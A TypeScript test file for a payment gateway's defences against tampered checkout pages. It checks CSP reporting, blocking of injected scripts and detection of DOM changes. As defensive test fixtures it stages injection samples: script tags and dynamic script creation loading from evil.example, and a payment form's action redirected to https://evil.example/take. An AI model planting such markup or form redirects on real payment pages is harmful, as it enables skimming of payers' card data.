// A payment page that was tampered with: foreign code does not run, and the gateway gets a report.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { type Browser, launchBrowser, openPage, type WatchedPage } from '../../../support/browser/browser.ts'
import * as inBrowser from '../../../support/browser/test.ts'
import { type ApiResponse, send } from '../../../support/clients/client.ts'
import { newCheckout } from '../../../support/clients/payer.ts'
import { startGateway, type TestGateway } from '../../../support/gateway/gateway.ts'

let gateway: TestGateway
before(async () => {
  gateway = await startGateway()
})
after(() => gateway.stop())

interface Line {
  readonly msg: string
  readonly kind: string
  readonly page: string
  readonly about: string
  readonly source: string
}

function reported(): readonly string[] {
  return gateway.logLines
    .map((line) => JSON.parse(line) as Line)
    .filter(({ msg }) => msg === 'a browser reported a modified page')
    .map(({ kind, page, about, source }) => [kind, page, about, source].join(' '))
}

function post(contentType: string, text: string): Promise<ApiResponse> {
  return send(gateway.listeners.httpUrl ?? '', {
    method: 'POST',
    path: '/checkout/reports',
    login: null,
    bytes: text,
    headers: { 'content-type': contentType },
  })
}

async function figure(): Promise<string> {
  const { text } = await send(gateway.listeners.httpUrl ?? '', { path: '/metrics', login: null })
  return text
    .split('\n')
    .filter((line) => line.startsWith('tollgate_page_reports_total'))
    .join('\n')
}

const session = 'SESSION0002799480514F69145320L2'
const policyReport = JSON.stringify({
  'csp-report': {
    'document-uri': `https://pay.example/checkout/pay/${session}`,
    'effective-directive': 'script-src-elem',
    'blocked-uri': 'https://evil.example/x.js',
  },
})

describe('a violation report of a browser', () => {
  it('is one warning in the log and one in the metrics, without the id of a session', async () => {
    const { status, text } = await post('application/csp-report', policyReport)
    assert.deepEqual([status, text], [204, ''])
    assert.ok(reported().includes('policy payment script-src-elem https://evil.example'))
    assert.match(await figure(), /tollgate_page_reports_total\{kind="policy",page="payment"\} 1/)
    assert.ok(!gateway.logLines.join('').includes(session))
  })

  it('is refused when it is not a report, or too large', async () => {
    assert.equal((await post('application/json', policyReport)).status, 400)
    assert.equal((await post('application/csp-report', 'no')).status, 400)
    assert.equal((await post('application/csp-report', ' '.repeat(17_000))).status, 413)
    assert.equal((await send(gateway.listeners.httpUrl ?? '', { path: '/checkout/reports', login: null })).status, 405)
  })
})

inBrowser.describe('a payment page', () => {
  let browser: Browser
  inBrowser.before(async () => {
    browser = await launchBrowser()
  })
  inBrowser.after(() => browser?.close())

  async function open(): Promise<WatchedPage> {
    const { sessionId } = await newCheckout(gateway)
    const page = await openPage(browser)
    await page.goto(`${gateway.listeners.httpsUrl}/checkout/pay/${sessionId}`)
    return page
  }

  /** Waits until all of these have been reported, one response to a report after the other. */
  async function untilReported(page: WatchedPage, expected: readonly string[], doIt: () => Promise<unknown>) {
    const isNews = (response: { url(): string }) => response.url().endsWith('/checkout/reports')
    let next = page.waitForResponse(isNews)
    await doIt()
    while (!expected.every((each) => reported().includes(each))) {
      await next
      next = page.waitForResponse(isNews)
    }
    next.catch(() => {})
  }

  inBrowser.it('as it was served reports nothing', async () => {
    const before = reported().length
    const page = await open()
    await page.locator('form').first().waitFor()
    assert.deepEqual(page.problems, [])
    await page.close()
    assert.equal(reported().length, before)
  })

  inBrowser.it(
    'runs no script that was put into it on its way, and both the browser and the page itself report it',
    async () => {
      const markup = `<script src="https://evil.example/x.js"></script><script>document.title = 'hacked'</script>
      <p onclick="document.title = 'hacked'">Click</p>`
      const { sessionId } = await newCheckout(gateway)
      const page = await openPage(browser)
      await page.route('**/checkout/pay/*', async (route) => {
        const response = await route.fetch()
        await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) })
      })
      const expected = [
        'policy payment script-src-elem https://evil.example',
        'policy payment script-src-elem inline',
        'change payment element script https://evil.example',
        'change payment element script inline',
        'change payment handler p onclick',
      ]
      await untilReported(page, expected, () => page.goto(`${gateway.listeners.httpsUrl}/checkout/pay/${sessionId}`))
      await page.getByText('Click').click()
      assert.doesNotMatch(await page.title(), /hacked/)
      await page.close()
    },
  )

  inBrowser.it('lets no script be made in it, and reports the attempt', async () => {
    const page = await open()
    await untilReported(page, ['policy payment require-trusted-types-for trusted-types-sink'], async () => {
      const attempt = page.evaluate(`document.createElement('script').src = 'https://evil.example/x.js'`)
      await assert.rejects(attempt, /TrustedScriptURL/)
    })
    await page.close()
  })

  inBrowser.it('reports a form that is made to lead elsewhere and a frame that is put into it, once', async () => {
    const page = await open()
    const expected = ['change payment form-action https://evil.example', 'change payment element iframe inline']
    await untilReported(page, expected, () =>
      page.evaluate(`for (let count = 0; count < 3; count += 1) {
        document.forms[0].action = 'https://evil.example/take'
        document.body.append(document.createElement('iframe'))
      }`),
    )
    await page.close()
    for (const each of expected) assert.equal(reported().filter((line) => line === each).length, 1, each)
    assert.match(await figure(), /kind="change",page="payment"/)
  })
})
